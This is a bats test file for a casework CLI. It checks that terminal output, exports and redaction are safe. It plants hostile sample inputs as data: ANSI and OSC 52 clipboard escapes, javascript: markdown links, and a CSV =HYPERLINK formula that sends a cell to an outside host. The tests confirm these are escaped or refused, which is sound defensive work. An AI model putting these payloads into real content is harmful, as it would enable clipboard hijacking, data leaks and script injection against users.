#!/usr/bin/env bats
# safety.bats - output that is safe to open (DESIGN.md "Output that is safe
# to open"): each test tries one attack on the terminal, a spreadsheet, a
# Markdown viewer, the redaction or the file system.

load helpers

# hostile_case FILE [ids] - the sample case with control characters (ESC
# [2J, OSC 52, a C1 CSI) and link and image syntax in its texts; with
# `ids`, client.identifiers for --redact too
hostile_case() {
	python3 - "$CASES/$CASE.json" "$1" "${2:-}" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
d["id"] = "hostile"
d["title"] = "Hostile \u001b[2J case"
d["summary"] = "Clears the screen \u001b[2J and sets the clipboard \u001b]52;c;aGk=\u0007 and \u009b31m."
d["phases"]["preparation"]["material"] = "See [x](javascript:alert(1)) and ![](http://remote.example/img.png) and Maya at Hillside Academy."
if sys.argv[3] == "ids":
    d["client"]["identifiers"] = ["Hillside Academy", "Tom Novak"]
d["background"] = "MAYA'S brother; maya said; Mayan calendar; Mayasaurus; Tom Novak called."
json.dump(d, open(sys.argv[2], "w"))
PY
}

# no_controls FILE|- - fail when the text holds a C0 control other than a
# line break, tab or CR (CSV rows end in CRLF), DEL, or a C1 control
no_controls() {
	python3 -c '
import re, sys
data = (sys.stdin.buffer if sys.argv[1] == "-" else open(sys.argv[1], "rb")).read().decode("utf-8")
bad = re.findall(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f]", data)
if bad:
    print("raw control characters:", [hex(ord(c)) for c in bad], file=sys.stderr)
    sys.exit(1)' "$1"
}

setup_hostile() {
	hostile_case "$BATS_TEST_TMPDIR/hostile.json" "${1:-}"
	cw case import "$BATS_TEST_TMPDIR/hostile.json" >/dev/null
	SESSION=$(cw start hostile --student Ana | head -n 1)
}

@test "control characters in a case file never reach the terminal raw" {
	setup_hostile
	for cmd in "case list" "case show hostile" \
		"guide" "status" "sessions" "log" "workflow show standard"; do
		run cw $cmd
		[ "$status" -eq 0 ] || { echo "$cmd: exit $status" >&2; return 1; }
		no_controls - <<<"$output" || { echo "in: $cmd" >&2; return 1; }
	done
	run cw case show hostile
	[[ "$output" == *'Hostile \x1b[2J case'* ]]
	[[ "$output" == *'\x1b]52;c;aGk=\x07'* ]]
	[[ "$output" == *'\u009b31m'* ]]
}

@test "control characters in a student's name and in errors are shown escaped" {
	sqlite_only "plants the text with sqlite3, as a bundle of old could"
	setup_hostile
	# a handed-in bundle can carry what the command line refuses: write it
	# straight into the database, as such a bundle would
	sqlite3 "$CASEWORK_DB" "UPDATE sessions SET student = 'Ana' || char(27) || '[2J'" 2>/dev/null ||
		skip "the sessions table has no student column to edit"
	run cw sessions
	no_controls - <<<"$output"
	[[ "$output" == *'Ana\x1b[2J'* ]]
	run cw report
	no_controls - <<<"$output"
	run cw use "$(printf 'zz\033[2Jzz')"
	[ "$status" -ne 0 ]
	no_controls - <<<"$output"
	# --json stays valid JSON, with the same text: DEL and C1 controls are
	# shown as JSON escapes
	sqlite3 "$CASEWORK_DB" "UPDATE sessions SET student = 'Ana' || char(127) || char(155) || char(27)"
	run cw sessions --json
	no_controls - <<<"$output"
	[ "$(python3 -c 'import json, sys; print(ascii(json.loads(sys.stdin.read())["sessions"][0]["student"]))' <<<"$output")" = "'Ana\x7f\x9b\x1b'" ]
}

@test "exports show control characters escaped: md, csv, html" {
	setup_hostile
	cw note --tag exploration "Said: $(printf 'stop\033[2Jnow')" >/dev/null 2>&1 || true
	cw export --format md -o "$BATS_TEST_TMPDIR/h.md"
	cw export --format csv -o "$BATS_TEST_TMPDIR/h.csv"
	cw export --format csv --goals -o "$BATS_TEST_TMPDIR/g.csv"
	cw export --format html -o "$BATS_TEST_TMPDIR/h.html"
	cw export --all --format md -o "$BATS_TEST_TMPDIR/all.md"
	cw report --format csv >"$BATS_TEST_TMPDIR/report.csv"
	for f in h.md h.csv g.csv h.html all.md report.csv; do
		no_controls "$BATS_TEST_TMPDIR/$f" || { echo "in $f" >&2; return 1; }
	done
	grep -qF 'Hostile \\x1b\[2J case' "$BATS_TEST_TMPDIR/h.md"
	grep -qF 'Hostile \x1b[2J case' "$BATS_TEST_TMPDIR/h.html"
	# JSON keeps the text exactly, escaped as JSON escapes it
	cw export --format json | grep -qF 'Hostile \u001b[2J case'
}

@test "markdown export: typed link and image syntax does not render" {
	setup_hostile
	cw check case-file-reviewed "Read it: [click](javascript:alert(1)) and ![](http://remote.example/x.png)" >/dev/null
	cw export --format md -o "$BATS_TEST_TMPDIR/h.md"
	# no link or image opens with an unescaped [ anywhere in the file
	! grep -nE '(^|[^\\])!?\[[^]]*\]\(' "$BATS_TEST_TMPDIR/h.md"
	grep -qF '\[click\](javascript:alert(1))' "$BATS_TEST_TMPDIR/h.md"
	grep -qF '\!\[\](http://remote.example/x.png)' "$BATS_TEST_TMPDIR/h.md"
	if python3 -c 'import markdown' 2>/dev/null; then
		python3 -c 'import markdown, sys; h = markdown.markdown(open(sys.argv[1]).read()); sys.exit("<a " in h or "<img" in h)' "$BATS_TEST_TMPDIR/h.md"
	fi
}

@test "csv: a cell that begins with = + - @ tab or CR is not a formula" {
	start_session
	cw goal add '=HYPERLINK("http://x.example/?"&A1,"click")' --term short --measure '+1 day a week' >/dev/null
	cw goal add '@SUM(A1:A9)' --term long --measure '-2+3' >/dev/null
	run cw use "$SESSION"
	cw export --format csv --goals -o "$BATS_TEST_TMPDIR/g.csv"
	python3 - "$BATS_TEST_TMPDIR/g.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline=""), strict=True))
cells = [c for r in rows[1:] for c in r]
assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" in cells, cells
assert "'+1 day a week" in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells, cells
for c in cells:
    assert not c or c[0] not in "=+-@\t\r", c
PY
	# the session's own student name as a formula, in report and export csv
	cw start "$CASE" --student '=1+2' --new >/dev/null
	for cmd in "report --format csv" "export --all --format csv"; do
		cw $cmd >"$BATS_TEST_TMPDIR/r.csv"
		python3 - "$BATS_TEST_TMPDIR/r.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline=""), strict=True))
cells = [c for r in rows for c in r]
assert "'=1+2" in cells, cells
assert "=1+2" not in cells
PY
	done
}

@test "--redact: alias and each word in any case, whole words; age, household, identifiers" {
	setup_hostile ids
	cw note --tag exploration "MAYA'S teacher rang; maya agreed; the Mayan project; Tom Novak came; hillside academy too" >/dev/null
	for format in json md html csv; do
		cw export --format "$format" --redact -o "$BATS_TEST_TMPDIR/r.$format"
	done
	cw export --format csv --goals --redact -o "$BATS_TEST_TMPDIR/g.csv"
	for f in r.json r.md r.html r.csv g.csv; do
		if grep -niwE 'maya|tom|novak|hillside academy' "$BATS_TEST_TMPDIR/$f"; then
			echo "$f names the client" >&2
			return 1
		fi
	done
	grep -qF '[client]'"'"'S teacher rang; [client] agreed; the Mayan project; [client] came; [client] too' "$BATS_TEST_TMPDIR/r.md" ||
		grep -qF '\[client\]'"'"'S teacher rang; \[client\] agreed; the Mayan project; \[client\] came; \[client\] too' "$BATS_TEST_TMPDIR/r.md"
	grep -qF 'Mayasaurus' "$BATS_TEST_TMPDIR/r.json"
	! grep -qE '"(age|alias|household|identifiers)"' "$BATS_TEST_TMPDIR/r.json"
}

@test "case validate: client.identifiers is a list of texts" {
	hostile_case "$BATS_TEST_TMPDIR/ok.json" ids
	cw case validate "$BATS_TEST_TMPDIR/ok.json"
	python3 - "$BATS_TEST_TMPDIR/ok.json" "$BATS_TEST_TMPDIR/bad.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1])); d["client"]["identifiers"] = "Hillside"
json.dump(d, open(sys.argv[2], "w"))
PY
	run cw case validate "$BATS_TEST_TMPDIR/bad.json"
	[ "$status" -eq 5 ]
	[[ "$output" == *'$.client.identifiers'* ]]
}

@test "export -o --force: replaces a regular file by renaming; never a link, fifo or device" {
	start_session
	echo old >"$BATS_TEST_TMPDIR/out.md"
	chmod 644 "$BATS_TEST_TMPDIR/out.md"
	ln "$BATS_TEST_TMPDIR/out.md" "$BATS_TEST_TMPDIR/hard.md"
	cw export --format md -o "$BATS_TEST_TMPDIR/out.md" --force >/dev/null
	# a new file took its place: the other name of the old one is untouched
	[ "$(cat "$BATS_TEST_TMPDIR/hard.md")" = old ]
	[ "$(stat -c %a "$BATS_TEST_TMPDIR/hard.md")" = 644 ]
	[ "$(stat -c %a "$BATS_TEST_TMPDIR/out.md")" = 600 ]
	head -n 1 "$BATS_TEST_TMPDIR/out.md" | grep -q '^# '
	[ -z "$(ls "$BATS_TEST_TMPDIR" | grep 'out.md.')" ]
	# a symbolic link: refused, its target unchanged
	echo target >"$BATS_TEST_TMPDIR/target"
	chmod 644 "$BATS_TEST_TMPDIR/target"
	ln -s "$BATS_TEST_TMPDIR/target" "$BATS_TEST_TMPDIR/link.md"
	run cw export --format md -o "$BATS_TEST_TMPDIR/link.md" --force
	[ "$status" -eq 2 ]
	[ "$(cat "$BATS_TEST_TMPDIR/target")" = target ]
	[ "$(stat -c %a "$BATS_TEST_TMPDIR/target")" = 644 ]
	[ -L "$BATS_TEST_TMPDIR/link.md" ]
	# a fifo: refused, not opened (the test would hang), mode unchanged
	mkfifo -m 644 "$BATS_TEST_TMPDIR/fifo"
	run timeout 10 $CASEWORK $AS_TESTER export --format md -o "$BATS_TEST_TMPDIR/fifo" --force
	[ "$status" -eq 2 ]
	[[ "$output" == *"not a regular file"* ]]
	[ -p "$BATS_TEST_TMPDIR/fifo" ]
	[ "$(stat -c %a "$BATS_TEST_TMPDIR/fifo")" = 644 ]
	# a device: refused, its mode unchanged (as root this is the real risk)
	before=$(stat -c %a /dev/null)
	run cw export --format md -o /dev/null --force
	[ "$status" -eq 2 ]
	[ "$(stat -c %a /dev/null)" = "$before" ]
	[ -c /dev/null ]
}
